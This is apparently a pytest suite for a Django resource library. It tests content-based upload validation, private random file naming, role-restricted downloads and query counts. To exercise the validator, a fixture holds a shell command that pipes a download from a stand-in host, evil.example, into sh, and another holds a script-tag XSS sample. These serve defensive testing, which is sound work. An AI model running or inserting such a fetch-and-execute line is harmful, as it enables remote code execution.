"""The resource library: uploads checked by content, files private, handed out only to the
roles a resource is for."""

import io
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from campaigns.models import Resource
from campaigns.resource_services import resource_create
from tests.factories import ResourceFactory, StrategyFactory

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


def _zip(entries: dict[str, bytes], *, first: str | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        if first:
            archive.writestr(first, entries.pop(first), compress_type=zipfile.ZIP_STORED)
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


DOCX = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
XLSX = _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
ODT = _zip(
    {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office/>"},
    first="mimetype",
)
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 32


def _with_file(name: str, data: bytes, **fields) -> Resource:
    fields = {"title": "Guide", "audience": Resource.Audience.EVERYONE, **fields}
    return resource_create(file=SimpleUploadedFile(name, data), **fields)


def _admin_add(client, admin_user, name: str, data: bytes):
    client.force_login(admin_user)
    return client.post(
        reverse("admin:campaigns_resource_add"),
        {
            "title": "How to approach your section",
            "kind": "guide",
            "audience": "everyone",
            "language": "en",
            "file": SimpleUploadedFile(name, data),
        },
    )


def test_a_script_renamed_pdf_is_refused_at_the_file_field(client, admin_user):
    response = _admin_add(client, admin_user, "guide.pdf", SCRIPT)

    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert list(errors) == ["file"]
    assert "none of the accepted kinds" in errors["file"][0]
    assert Resource.objects.count() == 0
    assert not list(Path(settings.MEDIA_ROOT).glob("resources/*.pdf"))


def test_text_named_pdf_is_refused_naming_what_it_is(client, admin_user):
    response = _admin_add(client, admin_user, "guide.pdf", b"Just some words.\n")

    errors = response.context["adminform"].form.errors
    assert "named “.pdf” but its content is TXT" in errors["file"][0]
    assert Resource.objects.count() == 0


def test_a_file_over_the_limit_is_refused(client, admin_user, settings):
    settings.RESOURCE_MAX_BYTES = 100
    response = _admin_add(client, admin_user, "guide.pdf", PDF + b" " * 100)

    errors = response.context["adminform"].form.errors
    assert "the largest accepted is 100\xa0bytes" in errors["file"][0]
    assert Resource.objects.count() == 0


def test_the_admin_accepts_a_real_pdf_and_keeps_it_under_a_random_name(client, admin_user):
    response = _admin_add(client, admin_user, "guide.pdf", PDF)

    assert response.status_code == 302
    resource = Resource.objects.get()
    assert resource.file_name == "guide.pdf"
    assert resource.content_type == "application/pdf"
    assert resource.file.name.startswith("resources/")
    assert "guide" not in resource.file.name
    assert Path(resource.file.path).read_bytes() == PDF
    assert resource.history.get().history_user == admin_user


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("guide.docx", DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml."),
        ("sheet.xlsx", XLSX, "application/vnd.openxmlformats-officedocument.spreadsheetml."),
        ("guide.odt", ODT, "application/vnd.oasis.opendocument.text"),
        ("poster.png", PNG, "image/png"),
        ("photo.jpg", JPEG, "image/jpeg"),
        ("notes.txt", "Décriminalisation\n".encode(), "text/plain"),
    ],
)
def test_each_accepted_kind_is_known_by_its_content(db, name, data, content_type):
    assert _with_file(name, data).content_type.startswith(content_type)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("guide.docx", _zip({"word/document.xml": b"x"})),  # a zip without the Office entries
        ("guide.docx", XLSX),  # a workbook named as a document
        ("page.txt", b"<html><script>alert(1)</script></html>"),
        ("run.txt", SCRIPT),
        ("binary.txt", b"\x00\x01\x02"),
    ],
)
def test_other_content_is_refused(db, name, data):
    with pytest.raises(ValidationError) as error:
        _with_file(name, data)
    assert "file" in error.value.message_dict
    assert Resource.objects.count() == 0


@pytest.fixture
def reserved(db):
    return _with_file("plan.pdf", PDF, title="Secretariat plan", audience="secretariat")


@pytest.fixture
def shared(db):
    return _with_file("guide.pdf", PDF, title="Guide for members")


def test_focal_point_and_viewer_get_404_for_a_secretariat_resource(
    client_for, focal_point, viewer, reserved, shared
):
    for user in (focal_point, viewer):
        client = client_for(user)
        url = reverse("campaigns:resource-download", args=[reserved.pk])
        assert client.get(url).status_code == 404
        # Guessing ids around it finds only what the reader may have.
        found = [
            pk
            for pk in range(1, reserved.pk + shared.pk + 5)
            if client.get(reverse("campaigns:resource-download", args=[pk])).status_code == 200
        ]
        assert found == [shared.pk]


def test_the_secretariat_downloads_a_reserved_resource(client_for, staff_user, reserved):
    response = client_for(staff_user).get(
        reverse("campaigns:resource-download", args=[reserved.pk])
    )
    assert response.status_code == 200


def test_a_download_is_an_attachment_the_browser_may_not_sniff(client_for, focal_point, shared):
    response = client_for(focal_point).get(reverse("campaigns:resource-download", args=[shared.pk]))

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="guide.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "application/pdf"
    assert b"".join(response.streaming_content) == PDF


def test_a_link_only_resource_has_no_download(client_for, focal_point):
    link = ResourceFactory()
    response = client_for(focal_point).get(reverse("campaigns:resource-download", args=[link.pk]))
    assert response.status_code == 404


def test_the_file_has_no_public_address(client_for, admin_user, shared):
    client = client_for(admin_user)
    stored = shared.file.name  # resources/<random>.pdf
    media = Path(settings.MEDIA_ROOT).resolve()

    assert Path(shared.file.path).resolve().parent.parent == media
    assert Path(settings.STATIC_ROOT).resolve() not in Path(shared.file.path).resolve().parents
    for prefix in ("/static/", "/media/", "/", "/var/media/", "/resources/"):
        assert client.get(prefix + stored).status_code == 404, prefix
    with pytest.raises(ValueError, match="no URL"):
        shared.file.url  # noqa: B018


def test_the_list_shows_each_reader_what_it_may_see(client_for, focal_point, staff_user):
    ResourceFactory(title="Guide for members")
    ResourceFactory(title="Secretariat plan", audience="secretariat")

    mine = client_for(focal_point).get(reverse("campaigns:resource-list")).content.decode()
    assert "Guide for members" in mine
    assert "Secretariat plan" not in mine

    theirs = client_for(staff_user).get(reverse("campaigns:resource-list")).content.decode()
    assert "Guide for members" in theirs
    assert "Secretariat plan" in theirs
    assert "Secretariat only" in theirs


@pytest.mark.parametrize("size", [1, 12])
def test_the_list_costs_the_same_queries_whatever_its_size(
    client_for, focal_point, django_assert_num_queries, size
):
    for n in range(size):
        ResourceFactory(title=f"Resource {n}", strategy=StrategyFactory())
    client = client_for(focal_point)
    # session, user, role groups, the resources with their strategy and campaign
    with django_assert_num_queries(4):
        response = client.get(reverse("campaigns:resource-list"))
    assert response.status_code == 200
    assert len(response.context["resources"]) == size


def test_the_admin_change_page_links_the_file_through_the_download_view(
    client, admin_user, reserved
):
    client.force_login(admin_user)
    page = client.get(reverse("admin:campaigns_resource_change", args=[reserved.pk]))

    assert page.status_code == 200
    download = reverse("campaigns:resource-download", args=[reserved.pk])
    assert f'<a href="{download}">plan.pdf</a>' in page.content.decode()
    assert reserved.file.name not in page.content.decode()
